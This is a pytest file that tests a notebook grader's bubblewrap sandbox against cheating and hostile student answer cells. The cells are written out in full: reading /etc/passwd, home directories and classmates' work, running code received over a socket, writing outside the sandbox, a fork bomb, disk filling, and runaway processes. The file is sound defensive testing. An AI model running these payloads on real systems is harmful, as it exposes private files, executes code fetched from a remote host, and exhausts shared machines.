"""Attacks on the sandbox: answer cells that read what they must not, phone home, or write outside.

Each is a real submission of the first chapter graded end to end with the bubblewrap sandbox on
(``isolation="bwrap"``; CI installs bubblewrap in .ci/run). An answer cell is the student's to write,
so each attack answers by *finding* the answer somewhere on the grading machine: in the instructor's
copy of the chapter, in a classmate's submission, from a server on the grader's host. With the
sandbox each scores no more than a blank submission and the feedback says what failed; the same
probe run without the sandbox finds the book and scores full marks, which shows the probes work
and the sandbox is what stops them.
"""

from __future__ import annotations

import csv
import socket
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from attnbook.course import grader, sandbox
from test_grading_attacks import FULL, LABELS, blank_of, classroom, mini_chapter

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux's")

ROOT = Path(__file__).resolve().parents[2]


def test_bubblewrap_works_on_this_machine():
    assert sandbox.bwrap_works(), "install bubblewrap (apt-get install bubblewrap): CI needs the sandbox"
    assert grader.isolation_for("auto") == "bwrap"


def copy_answers_from(source: str):
    """Answer cells that exec the same cell from a notebook found at ``source`` (a Python expression
    for its path, evaluated in the kernel), falling back to the stub when it cannot be read."""
    def change(nb):
        for cell in nb.cells:
            if "solution" in cell.metadata.get("tags", []):
                cell.source = textwrap.dedent(f"""
                    import json, os
                    from pathlib import Path
                    try:
                        _found = json.loads(Path({source}).read_text())
                        _cells = {{c.get("id"): "".join(c["source"]) for c in _found["cells"]}}
                        exec(_cells[{cell.get("id")!r}])
                    except Exception as err:
                        print("probe failed:", type(err).__name__, err)
                        raise
                    """)
    return change


def calls_the_library(nb):
    cell = next(c for c in nb.cells if "solution" in c.metadata.get("tags", []))
    cell.source = ("import attnbook.core as c\n"
                   "def my_masked_softmax(scores, mask=None, temperature=1.0):\n"
                   "    return c.masked_softmax(scores, mask, temperature)\n")


def answer_with(code: str):
    def change(nb):
        cell = next(c for c in nb.cells if "solution" in c.metadata.get("tags", []))
        cell.source = textwrap.dedent(code) + "\n" + cell.source
    return change


class Server:
    """A TCP server on the grader's host that hands out the first answer to whoever connects."""

    def __init__(self, answer: str):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.connections, self.answer = self.sock.getsockname()[1], 0, answer.encode()
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(self.answer)

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


def setsid_children(nb):
    """The first answer starts 8 busy children, each in a session of its own ignoring SIGINT, and
    sleeps past the cell's time limit; the second counts the children still alive."""
    first, second = [c for c in nb.cells if "solution" in c.metadata.get("tags", [])][:2]
    first.source = textwrap.dedent("""
        import os, signal, time
        children = []
        for _ in range(8):
            pid = os.fork()
            if pid == 0:
                os.setsid()
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                while True:
                    pass
            children.append(pid)
        with open("/tmp/children", "w") as f:
            f.write(" ".join(map(str, children)))
        time.sleep(3600)
        """)
    second.source = textwrap.dedent("""
        def alive(pid):
            try:
                with open(f"/proc/{pid}/stat") as f:
                    return f.read().rsplit(")", 1)[1].split()[0] not in "ZX"
            except OSError:
                return False
        pids = [int(p) for p in open("/tmp/children").read().split()]
        raise RuntimeError(f"{sum(map(alive, pids))} of {len(pids)} children alive")
        """)


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandbox")
    book, subs, out = root / "book", root / "submissions", root / "out"
    mini = mini_chapter()
    solution = next(c.source for c in mini.cells if "solution" in c.metadata.get("tags", []))
    server = Server(solution)
    outside = root / "written-from-the-kernel"
    attacks = {
        # the instructor's chapter, found from where attnbook is installed (a source checkout)
        "read-the-book-beside-the-package":
            copy_answers_from('Path(__import__("attnbook").__file__).parent.parent / "book" / "attention.ipynb"'),
        "read-the-book-by-its-path": copy_answers_from(repr(str(book / "attention.ipynb"))),
        "read-a-classmates-submission": copy_answers_from(repr(str(subs / "ada" / "attention.ipynb"))),
        "read-the-grades-and-home": answer_with(f"""
            from pathlib import Path
            for secret in [{str(out)!r}, Path.home().parent, "/etc/passwd", "/root", "/home"]:
                print(secret, sorted(p.name for p in Path(secret).iterdir())
                      if Path(secret).is_dir() else Path(secret).read_text()[:100])
            """),
        "phone-home": answer_with(f"""
            import socket
            with socket.create_connection(("127.0.0.1", {server.port}), timeout=3) as s:
                exec(s.recv(100000).decode())
            """),
        "write-outside": answer_with(f"""
            from pathlib import Path
            Path("/tmp/inside-the-sandbox").write_text("x")  # its own /tmp: allowed, private
            Path({str(outside)!r}).write_text("x")
            """),
        "fork-bomb": answer_with("""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """),
        # every writable place is a sized tmpfs (64 MiB here): the writes stop there, none reach
        # the grader's disk, and the kernel goes on
        "fill-the-disk": answer_with("""
            import os
            report = []
            for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/dev", "/"]:
                written = 0
                try:
                    with open(os.path.join(folder, "filler"), "wb") as f:
                        while written < 2**30:
                            f.write(bytes(2**20))
                            f.flush()
                            written += 2**20
                except OSError as err:
                    report.append(f"{folder}:{written >> 20}:{err.strerror}")
            for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm"]:
                os.remove(os.path.join(folder, "filler"))
            raise OSError(";".join(report))
            """),
        # children in sessions of their own that ignore SIGINT and spin: killed at the cell's
        # timeout, so the next answer cell finds none of them alive
        "setsid-children": setsid_children,
        # not an attack on the sandbox: the library's own implementation of what the exercise asks
        # to write, which the grader reads in the answer cell and fails, here with the sandbox on
        "calls-the-library": calls_the_library,
    }
    classroom(root, {"ada": mini, "blank": blank_of(mini), **attacks})
    out.mkdir()
    (out / "grades-of-last-week.csv").write_text("student,points\nada,4\n")
    limits = sandbox.Limits(cell_timeout=6, notebook_timeout=120, memory=3 * sandbox.GIB, processes=64,
                            disk=64 * 2**20)
    try:
        rows = grader.grade([subs], out / "grades.csv", book_dir=book, limits=limits, jobs=2, isolation="bwrap")
        # the control: the same probe without the sandbox finds the book (in a source checkout)
        control = grader.grade([subs / "read-the-book-by-its-path"], root / "control.csv", book_dir=book,
                               limits=limits, isolation="none")
    finally:
        server.close()
    with (out / "gradebook.csv").open(newline="") as f:
        gradebook = {line[0]: line for line in csv.reader(f)}
    return {"rows": rows, "control": control, "gradebook": gradebook, "server": server, "outside": outside,
            "out": out, "attacks": attacks}


def rows_of(result, student):
    return {r["label"]: r for r in result["rows"] if r["student"] == student}


def test_every_row_says_it_ran_in_the_sandbox(sandboxed):
    assert {r["isolation"] for r in sandboxed["rows"]} == {"bwrap"}
    assert "isolation: bwrap" in grader.summary(sandboxed["rows"])


def test_the_probe_finds_the_book_without_the_sandbox(sandboxed):
    # the probe runs the book's solutions with exec: where an exercise forbids the whole library,
    # exec of a string built at run time counts as reaching it (tests/course/test_library_calls.py),
    # so those rows fail for that, and the probe itself never fails
    for row in sandboxed["control"]:
        if row["label"] != "*":
            assert row["status"] == "passed" or row["message"].startswith(
                ("your answer uses attnbook,", "your answer reaches attnbook by a name computed")), row["message"]
    assert any(r["status"] == "passed" for r in sandboxed["control"] if r["label"] != "*")
    assert not any("probe failed" in r["message"] for r in sandboxed["control"])
    assert {r["isolation"] for r in sandboxed["control"]} == {"none"}
    assert "isolation: none (no sandbox" in grader.summary(sandboxed["control"])


def test_the_honest_student_keeps_full_marks(sandboxed):
    assert sandboxed["gradebook"]["ada"][1:] == [str(FULL), str(FULL)]
    assert sandboxed["gradebook"]["blank"][1:] == ["0", "0"]


@pytest.mark.parametrize("attack", ["read-the-book-beside-the-package", "read-the-book-by-its-path",
                                    "read-a-classmates-submission", "read-the-grades-and-home", "phone-home",
                                    "write-outside", "fork-bomb", "fill-the-disk", "setsid-children"])
def test_an_attack_on_the_sandbox_scores_as_blank_and_is_reported(sandboxed, attack):
    rows = rows_of(sandboxed, attack)
    assert all(rows[label]["passed"] == 0 for label in LABELS), {k: r["message"] for k, r in rows.items()}
    assert sandboxed["gradebook"][attack][1:] == ["0", "0"]
    first = rows[LABELS[0]]["message"]
    if attack == "fork-bomb":  # its forks killed at the cell's time limit; its kernel, left with
        # nothing but zombies to fill its 64 processes, may not recover from the interrupt
        stopped = "*" in rows and "ignored the interrupt" in rows["*"]["message"]
        assert stopped or "ran longer than 6 s" in first, (first, rows.get("*"))
    elif attack == "setsid-children":
        assert "your answer cell raised the cell ran longer than 6 s" in first, first
    else:
        assert first.startswith(grader.NOT_RUN) and "your answer cell raised" in first, first


def test_calling_the_library_is_failed_with_a_message_in_the_sandbox_too(sandboxed):
    row = rows_of(sandboxed, "calls-the-library")[LABELS[0]]
    assert row["status"] == "failed" and row["isolation"] == "bwrap", row
    assert row["message"].startswith("your answer uses attnbook.core.masked_softmax"), row["message"]
    assert sandboxed["gradebook"]["calls-the-library"][1:] == ["0", "0"]
    assert "attnbook.core.masked_softmax" in (sandboxed["out"] / "feedback" / "calls-the-library.md").read_text()


def test_the_reasons_reach_the_feedback(sandboxed):
    feedback = sandboxed["out"] / "feedback"
    reasons = {
        "read-the-book-by-its-path": "FileNotFoundError",
        "read-a-classmates-submission": "FileNotFoundError",
        "read-the-grades-and-home": "FileNotFoundError",
        "phone-home": "ConnectionRefusedError",
        "write-outside": "FileNotFoundError",
        "fork-bomb": "ran ",
        "fill-the-disk": "No space left on device",
        "setsid-children": "0 of 8 children alive",
    }
    for attack, reason in reasons.items():
        assert reason in (feedback / f"{attack}.md").read_text(), attack


def test_nothing_left_the_sandbox(sandboxed):
    assert sandboxed["server"].connections == 0, "a kernel reached a server on the grader's host"
    assert not sandboxed["outside"].exists(), "a kernel wrote outside its folder"
    assert not Path("/tmp/inside-the-sandbox").exists()


def test_the_disk_filler_wrote_only_into_its_tmpfs(sandboxed):
    message = rows_of(sandboxed, "fill-the-disk")[LABELS[0]]["message"]
    sizes = [int(part.split(":")[1]) for part in message.split("raised OSError: ")[1].split(";")]
    assert sum(sizes[:3]) <= 64 and sizes[3] <= 16 and sizes[4:] == [0, 0], message  # /tmp, /dev/shm, /dev, /
    assert "Read-only file system" in message or "Permission denied" in message, message


def test_the_setsid_children_died_at_the_cells_timeout(sandboxed):
    second = rows_of(sandboxed, "setsid-children")[LABELS[1]]["message"]
    assert "RuntimeError: 0 of 8 children alive" in second, second


def grade_alone(tmp_path, answer, limits):
    """Grade ``answer`` (a change to the blank notebook) beside an honest student, two at a time in
    the sandbox; returns the rows by student and label."""
    mini = mini_chapter()
    book, subs = classroom(tmp_path, {"ada": mini, "attacker": answer})
    rows = grader.grade([subs], tmp_path / "grades.csv", book_dir=book, limits=limits, jobs=2,
                        isolation="bwrap")
    return {(r["student"], r["label"]): r for r in rows}


def test_busy_children_in_the_background_are_stopped_by_the_notebooks_cpu_cap(tmp_path):
    """Four children spin in the background while the notebook sleeps: all its processes together
    reach the CPU cap (15 s here) long before the notebook's time limit, and the notebook stops."""
    spin = answer_with("""
        import os, time
        for _ in range(4):
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        time.sleep(60)
        """)
    limits = sandbox.Limits(cell_timeout=90, notebook_timeout=120, memory=3 * sandbox.GIB, cpu_time=15)
    start = time.monotonic()
    got = grade_alone(tmp_path, spin, limits)
    assert "the notebook used more than 15 s of CPU time" in got["attacker", "*"]["message"], got
    assert all(got["attacker", label]["passed"] == 0 for label in LABELS)
    assert all(got["ada", label]["status"] == "passed" for label in LABELS)
    assert time.monotonic() - start < 60, "stopped by its CPU time, not by its 60 s sleep"


def test_the_memory_of_all_a_submissions_processes_is_bounded_together(tmp_path):
    """Three children hold 600 MB each; one process may have 3 GiB, all together 1 GiB. The
    submission is stopped (its memory polled), or the children are killed as they go past (a
    memory cgroup, as root): either way no two hold their 1.2 GB at once."""
    hoard = answer_with("""
        import os, time
        for _ in range(3):
            if os.fork() == 0:
                block = bytearray(600 * 2**20)  # zero-filled: every page is touched
                open(f"/tmp/held-{os.getpid()}", "w").close()
                time.sleep(60)
                os._exit(0)
        time.sleep(8)
        held = [name for name in os.listdir("/tmp") if name.startswith("held-")
                and os.path.exists(f"/proc/{name[5:]}")]
        raise RuntimeError(f"{len(held)} children hold their memory")
        """)
    limits = sandbox.Limits(cell_timeout=30, notebook_timeout=120, memory=3 * sandbox.GIB,
                            total_memory=sandbox.GIB)
    got = grade_alone(tmp_path, hoard, limits)
    notebook = got.get(("attacker", "*"), {}).get("message", "")
    first = got["attacker", LABELS[0]]["message"]
    stopped = "processes held more than 1,024 MiB of memory together" in notebook \
        or "the kernel died, exit code -9" in notebook
    assert stopped or any(f"{n} children hold their memory" in first for n in (0, 1)), (notebook, first)
    assert all(got["attacker", label]["passed"] == 0 for label in LABELS)
    assert all(got["ada", label]["status"] == "passed" for label in LABELS)


HOARD = """
import os, time
for _ in range(3):
    if os.fork() == 0:
        block = bytearray(600 * 2**20)
        time.sleep(60)
        os._exit(0)
time.sleep(30)
"""

SPIN = """
import os, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(30)
"""


@pytest.mark.parametrize("code, limits, why", [
    (HOARD, sandbox.Limits(cell_timeout=20, memory=3 * sandbox.GIB, total_memory=sandbox.GIB),
     "the notebook's processes held more than 1,024 MiB of memory together"),
    (SPIN, sandbox.Limits(cell_timeout=20, cpu_time=8), "the notebook used more than 8 s of CPU time"),
])
def test_without_a_cgroup_the_totals_are_polled(code, limits, why):
    """As an ordinary user (no cgroup), the grader adds up the memory and CPU time of every process
    of the submission twice a second and stops the notebook past the limit."""
    guard = sandbox.ProcessGuard("none")  # what a user who is not root gets: no cgroup
    start = time.monotonic()
    with pytest.raises(grader.KernelGone, match=why), grader.KernelSession(limits, guard, "bwrap") as kernel:
        kernel.run(code)
    assert time.monotonic() - start < 20, "stopped by the total, not by the cell's time limit"
